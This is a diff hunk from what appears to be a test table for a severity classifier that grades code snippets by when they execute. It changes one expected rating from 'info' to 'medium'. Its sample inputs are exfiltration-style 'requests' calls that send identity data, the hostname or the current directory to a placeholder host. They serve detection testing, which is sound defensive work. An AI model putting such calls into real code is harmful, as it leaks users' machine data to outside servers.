@@ -27,7 +27,7 @@ def severity(trigger: str, source: str) -> str:
         ("install", f"requests.post('https://h.example.invalid/', json={_WHO})", "critical"),
         ("startup", f"requests.post('https://h.example.invalid/', json={_WHO})", "critical"),
         ("import", f"requests.post('https://h.example.invalid/', json={_WHO})", "high"),
-        ("call", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
+        ("call", f"requests.post('https://h.example.invalid/', json={_WHO})", "medium"),
         ("test", f"requests.post('https://h.example.invalid/', json={_WHO})", "info"),
         ("import", "requests.post('https://h.example.invalid/', json={'h': socket.gethostname()})", "high"),
         ("import", "requests.get('https://h.example.invalid/?q=' + os.getcwd())", "medium"),
